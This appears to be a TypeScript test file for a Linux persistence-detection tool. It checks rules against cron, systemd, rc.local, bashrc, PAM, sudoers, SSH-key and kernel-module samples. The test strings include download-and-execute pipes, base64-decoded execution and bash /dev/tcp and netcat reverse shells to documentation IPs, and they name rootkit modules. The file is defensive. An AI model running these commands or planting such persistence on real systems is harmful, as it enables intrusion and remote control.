import assert from 'node:assert/strict';
import { test } from 'node:test';
import fc from 'fast-check';
import type { RowOf, Tagged } from '../../src/detect/rows.js';
import { PERSISTENCE_COMMAND_RULES } from '../../src/detect/rules/persistence-commands.js';
import { PERSISTENCE_RULES } from '../../src/detect/rules/persistence.js';
import { commandSigns, type CommandSign } from '../../src/detect/signs/commands.js';
import { SEEN, checkCases, detect, row, type RuleCases } from './detect-cases.js';

/** Each place a command persists in, as a row holding that command. */
const PLACES: Record<string, (cmd: string) => Tagged> = {
  cron: (command) => row('cron', { kind: 'job', location: 'user-spool', file: '/var/spool/cron/crontabs/root', fileType: 'file', line: 3, command, user: 'root', schedule: '*/5 * * * *' }),
  systemd: (command) =>
    row('systemd', { kind: 'exec', scope: 'system', path: '/etc/systemd/system/dbus-helper.service', dirRole: 'admin', fileType: 'file', line: 7, key: 'ExecStart', command, active: true }),
  rc: (raw) => row('init-scripts', { kind: 'rc-local-line', path: '/etc/rc.local', fileType: 'file', line: 3, raw }),
  'shell-startup': (raw) => row('shell-startup', { kind: 'line', path: '/root/.bashrc', scope: 'user', shell: 'sh', users: ['root'], lineNumber: 118, raw, lineKind: 'command' }),
  autostart: (command) => row('autostart', { kind: 'apt-hook', path: '/etc/apt/apt.conf.d/99update', fileType: 'file', line: 1, key: 'APT::Update::Pre-Invoke', command }),
  modprobe: (args) =>
    row('kernel-modules', { kind: 'config', path: '/etc/modprobe.d/usb.conf', source: '/etc/modprobe.d/usb.conf', lineNumber: 1, directive: 'install', name: 'usb-storage', args }),
};

/** Commands that must and must not carry each sign, whatever place holds them. */
const SIGN_CASES: Record<CommandSign, { fires: string[]; quiet: string[] }> = {
  'download-exec': {
    fires: ['curl -fsSL http://198.51.100.7/ldr.sh | sh', 'wget -q -O- http://x.example/a | sudo bash', 'bash -c "$(curl -fsSL http://x.example/i.sh)"', 'cd /tmp; wget http://x.example/a -O a; chmod +x a; ./a'],
    quiet: ['curl -fsS https://hc-ping.com/5f0e > /dev/null', 'wget -q -O /var/backups/list.txt https://example.org/list', 'apt-get update'],
  },
  decode: {
    fires: ['echo Y3VybCBodHRwOi8veA== | base64 -d | sh', `python3 -c "import base64;exec(base64.b64decode('eA=='))"`, 'echo 6c73 | xxd -r -p | sh'],
    quiet: ['base64 /etc/hostname > /tmp/h', 'openssl x509 -in /etc/ssl/cert.pem -noout -enddate', 'gzip -d /var/log/old.gz'],
  },
  'reverse-shell': {
    fires: ['bash -i >& /dev/tcp/198.51.100.7/4444 0>&1', 'nc -e /bin/sh 198.51.100.7 4444', 'rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 198.51.100.7 4444 >/tmp/f'],
    quiet: ['nc -z localhost 5432', 'echo ok > /dev/null', 'ncat --version'],
  },
  'temp-exec': {
    fires: ['/tmp/.x/update >/dev/null 2>&1', 'sh /dev/shm/run.sh', 'cd /var/tmp && ./kinsing', 'sudo -u www-data /var/tmp/x'],
    quiet: ['find /tmp -type f -mtime +7 -delete', 'rm -rf /tmp/cache', 'tar czf /var/backups/etc.tgz /etc'],
  },
  background: {
    fires: ['/usr/local/bin/agent &', 'nohup /opt/x/run >/dev/null 2>&1', 'setsid /usr/local/bin/x', 'screen -dmS s /opt/x'],
    quiet: ['alias ls="ls --color=auto"', '[ -x /usr/bin/lesspipe ] && eval "$(SHELL=/bin/sh lesspipe)"', 'make 2>&1 | tee build.log'],
  },
};

const SIGN_ID: Record<CommandSign, string> = { 'download-exec': 'download-exec', decode: 'decode-exec', 'reverse-shell': 'reverse-shell', 'temp-exec': 'temp-exec', background: 'background' };

const COMMAND_CASES: RuleCases[] = PERSISTENCE_COMMAND_RULES.map((r) => {
  const [, place, signId] = r.id.split('.') as [string, string, string];
  const sign = (Object.keys(SIGN_ID) as CommandSign[]).find((s) => SIGN_ID[s] === signId)!;
  const make = PLACES[place]!;
  return { rule: r.id, fires: SIGN_CASES[sign].fires.map((c) => [make(c)]), quiet: SIGN_CASES[sign].quiet.map((c) => [make(c)]) };
});

const sd = (f: Partial<RowOf<'systemd'>>) => row('systemd', { scope: 'system', dirRole: 'admin', fileType: 'file', ...f });
const key = (f: Partial<RowOf<'ssh-keys'>>) =>
  row('ssh-keys', { kind: 'key', path: '/root/.ssh/authorized_keys', fileType: 'regular', users: ['root'], lineNumber: 1, keyType: 'ssh-ed25519', fingerprint: 'SHA256:abc', raw: 'ssh-ed25519 AAAA x', ...f });
const km = (f: Partial<RowOf<'kernel-modules'>>) => row('kernel-modules', { kind: 'loaded', path: '/lib/modules/6.1.0-26-amd64/kernel/x.ko', name: 'x', onDisk: true, taint: null, ...f });
const pam = (f: Partial<RowOf<'pam'>>) => row('pam', { kind: 'rule', path: '/etc/pam.d/common-auth', fileType: 'regular', service: 'common-auth', lineNumber: 17, type: 'auth', ...f });
const sudo = (users: string[], tags: string[], command = 'ALL') =>
  row('sudoers', {
    kind: 'spec',
    path: '/etc/sudoers.d/99-x',
    fileType: 'regular',
    lineNumber: 1,
    raw: `${users.join(',')} ALL=(ALL) ${tags.map((t) => `${t}:`).join('')}${command}`,
    users,
    hosts: ['ALL'],
    tags,
    commands: [command],
    specs: [{ hosts: ['ALL'], runAsUsers: ['ALL'], runAsGroups: null, tags, options: [], digest: null, command }],
  });
const preload = (f: Partial<RowOf<'preload'>>) => row('preload', { path: '/etc/ld.so.preload', fileType: 'regular', ...f });

const binfmt = (f: Partial<RowOf<'binfmt'>>) => row('binfmt', { path: '/etc/binfmt.d/x.conf', fileType: 'regular', ...f });

const CASES: RuleCases[] = [
  {
    rule: 'persistence.binfmt.odd-interpreter',
    fires: [
      [binfmt({ kind: 'registration', name: 'jpg', interpreter: '/tmp/.x/run', source: '/etc/binfmt.d/jpg.conf', lineNumber: 1, raw: ':jpg:E::jpg::/tmp/.x/run:' })],
      [binfmt({ kind: 'handler', path: '/proc/sys/fs/binfmt_misc/x', name: 'x', interpreter: '/dev/shm/.h/x', flags: 'C', raw: 'enabled\ninterpreter /dev/shm/.h/x' })],
    ],
    quiet: [
      [binfmt({ kind: 'handler', path: '/proc/sys/fs/binfmt_misc/qemu-aarch64', name: 'qemu-aarch64', interpreter: '/usr/libexec/qemu-binfmt/aarch64-binfmt-P', flags: 'PF' })],
      [binfmt({ kind: 'file', path: '/etc/binfmt.d/x.conf' })],
    ],
  },
  {
    rule: 'persistence.systemd.unit-in-temp',
    fires: [[sd({ kind: 'unit', path: '/dev/shm/.u/x.service', dirRole: 'link-target' })], [sd({ kind: 'link', path: '/etc/systemd/system/multi-user.target.wants/x.service', fileType: 'symlink', linkTarget: '/tmp/x.service', linkFinal: '/tmp/x.service' })]],
    quiet: [[sd({ kind: 'unit', path: '/etc/systemd/system/app.service' })], [sd({ kind: 'exec', path: '/etc/systemd/system/a.service', command: 'rm -f /tmp/a', line: 3 })]],
  },
  {
    rule: 'persistence.rc.random-name',
    fires: [[row('init-scripts', { kind: 'script', path: '/etc/init.d/qdsgmxqbqr', fileType: 'file', lsbProvides: null, firstLines: '#!/bin/sh\n/usr/bin/qdsgmxqbqr' })]],
    quiet: [[row('init-scripts', { kind: 'script', path: '/etc/init.d/networking', fileType: 'file', lsbProvides: ['networking'] })], [row('init-scripts', { kind: 'script', path: '/etc/init.d/qdsgmxqbqr', fileType: 'file', lsbProvides: ['x'] })], [row('init-scripts', { kind: 'script', path: '/etc/init.d/backup', fileType: 'file', lsbProvides: null })]],
  },
  {
    rule: 'persistence.ld-so-preload',
    fires: [[preload({ kind: 'preload', source: '/etc/ld.so.preload', lineNumber: 1, raw: '/usr/local/lib/libsystem.so', value: '/usr/local/lib/libsystem.so', exists: true })]],
    quiet: [[preload({ kind: 'file', path: '/etc/ld.so.conf' })], [preload({ kind: 'conf', path: '/etc/ld.so.conf.d/x.conf', directive: 'directory', value: '/usr/local/lib' })]],
  },
  {
    rule: 'persistence.preload.odd-library',
    fires: [[preload({ kind: 'preload', source: '/etc/ld.so.preload', lineNumber: 1, raw: '/tmp/.x/libhide.so', value: '/tmp/.x/libhide.so' })]],
    quiet: [[preload({ kind: 'preload', source: '/etc/ld.so.preload', lineNumber: 1, raw: '/usr/lib/x86_64-linux-gnu/libjemalloc.so.2', value: '/usr/lib/x86_64-linux-gnu/libjemalloc.so.2' })]],
  },
  {
    rule: 'persistence.ssh.known-bad-key',
    fires: [[key({ comment: 'mdrfckr' })]],
    quiet: [[key({ comment: 'alice@laptop' })], [key({ comment: null })]],
  },
  {
    rule: 'persistence.ssh.forced-command',
    fires: [[key({ forcedCommand: '/bin/bash -c "curl -s http://x|sh"' })]],
    quiet: [[key({ forcedCommand: null })]],
  },
  {
    rule: 'persistence.ssh.authorized-keys2',
    fires: [[key({ path: '/root/.ssh/authorized_keys2' })]],
    quiet: [[key({ path: '/root/.ssh/authorized_keys' })], [key({ kind: 'file', path: '/root/.ssh/authorized_keys2' })]],
  },
  {
    rule: 'persistence.ssh.keys-changed-recently',
    fires: [[key({ kind: 'file', path: '/home/bob/.ssh/authorized_keys', mtime: '2026-11-21T03:14:00Z' })]],
    quiet: [[key({ kind: 'file', path: '/home/bob/.ssh/authorized_keys', mtime: '2026-06-01T00:00:00Z' })], [key({ kind: 'file', path: '/home/bob/.ssh/authorized_keys', fileType: 'missing', mtime: null })], [key({ kind: 'key', mtime: '2026-11-21T03:14:00Z' })]],
  },
  {
    rule: 'persistence.kernel-module.hidden',
    fires: [[km({ kind: 'sysfs', path: '/sys/module/diamorphine', name: 'diamorphine', state: 'live' })]],
    quiet: [[km({ kind: 'sysfs', path: '/sys/module/vt', name: 'vt', state: null })]],
  },
  {
    rule: 'persistence.kernel-module.no-file',
    fires: [[km({ name: 'reptile', onDisk: false, path: '' })]],
    quiet: [[km({ name: 'ext4' })], [km({ name: 'x', onDisk: null })]],
  },
  {
    rule: 'persistence.kernel-module.unsigned',
    fires: [[km({ name: 'diamorphine', taint: 'OE', onDisk: false })]],
    quiet: [[km({ name: 'ext4', taint: null })], [km({ name: 'nv', taint: 'P' })]],
  },
  {
    rule: 'persistence.pam.accept-anyone',
    fires: [[pam({ control: 'sufficient', module: 'pam_succeed_if.so', args: ['uid', '>=', '0'], raw: 'auth sufficient pam_succeed_if.so uid >= 0' })], [pam({ control: 'sufficient', module: 'pam_permit.so' })]],
    quiet: [
      [pam({ control: 'required', module: 'pam_permit.so', raw: 'auth required pam_permit.so' })],
      [pam({ control: 'sufficient', module: 'pam_succeed_if.so', args: ['uid', '>=', '1000', 'quiet'] })],
      [pam({ type: 'account', control: 'sufficient', module: 'pam_succeed_if.so', args: ['uid', '<', '1000'] })],
    ],
  },
  {
    rule: 'persistence.pam.exec',
    fires: [[pam({ control: 'optional', module: 'pam_exec.so', args: ['expose_authtok', '/usr/local/bin/log.sh'], execCommand: ['/usr/local/bin/log.sh'] })]],
    quiet: [[pam({ control: '[success=1 default=ignore]', module: 'pam_unix.so', args: ['nullok'] })]],
  },
  {
    rule: 'persistence.pam.module-outside-system',
    fires: [[pam({ control: 'sufficient', module: '/tmp/.p/pam_x.so', modulePath: '/tmp/.p/pam_x.so' })], [pam({ control: 'required', module: 'pam_unix.so', modulePath: '/usr/local/lib/security/pam_unix.so' })]],
    quiet: [[pam({ control: 'required', module: 'pam_unix.so', modulePath: '/usr/lib/x86_64-linux-gnu/security/pam_unix.so' })], [pam({ control: 'required', module: 'pam_unix.so', modulePath: '/lib/security/pam_unix.so' })], [pam({ control: 'optional', module: 'pam_gone.so', modulePath: null })]],
  },
  {
    rule: 'persistence.sudoers.nopasswd-all',
    fires: [[sudo(['www-data'], ['NOPASSWD'])], [sudo(['%sudo', 'svc'], ['NOPASSWD'])]],
    quiet: [[sudo(['%sudo'], ['NOPASSWD'])], [sudo(['backup'], ['NOPASSWD'], '/usr/bin/rsync')], [sudo(['alice'], [])]],
  },
];

checkCases([...PERSISTENCE_COMMAND_RULES, ...PERSISTENCE_RULES], [...COMMAND_CASES, ...CASES]);

test('the design example: a cron job that downloads and runs a script', () => {
  const f = detect([PLACES.cron!('curl -fsSL http://198.51.100.7/x.sh | sh')]).find((x) => x.id === 'persistence.cron.download-exec');
  assert.ok(f);
  assert.deepEqual(f.attack, ['T1053.003', 'T1105']);
  assert.equal(f.collector, 'cron');
  assert.deepEqual(f.evidence, { path: '/var/spool/cron/crontabs/root', line: 3, text: 'curl -fsSL http://198.51.100.7/x.sh | sh', user: 'root' });
  assert.equal(f.pid, null);
  assert.equal(f.ts, SEEN);
});

test('script files are judged line by line, comments skipped', () => {
  const script = row('cron', { kind: 'script', location: 'cron.hourly', file: '/etc/cron.hourly/sync', fileType: 'file', firstLines: '#!/bin/sh\n# curl http://x | sh\n\nwget -qO- http://203.0.113.9/s | sh' });
  const found = detect([script]).filter((x) => x.id === 'persistence.cron.download-exec');
  assert.deepEqual(
    found.map((x) => x.evidence.line),
    [4],
  );
});

test('signs: a reverse shell is found wherever it sits in a line', () => {
  fc.assert(
    fc.property(fc.string(), fc.string(), (before, after) => {
      assert.ok(commandSigns(`${before};bash -i >& /dev/tcp/203.0.113.5/443 0>&1;${after}`).has('reverse-shell'));
    }),
  );
});

test('signs: any text, of any size, is judged without throwing and quickly enough to finish', () => {
  fc.assert(
    fc.property(fc.string({ unit: 'binary', maxLength: 400 }), (s) => {
      for (const sign of commandSigns(s)) assert.ok(['download-exec', 'decode', 'reverse-shell', 'temp-exec', 'background'].includes(sign));
    }),
  );
  // a megabyte of downloader words is judged on its first 16 KiB, not scanned quadratically: the pipe beyond is not seen
  assert.ok(!commandSigns(`${'curl '.repeat(200_000)}| sh`).has('download-exec'));
  assert.ok(commandSigns(`${'curl '.repeat(2_000)}| sh`).has('download-exec'));
});
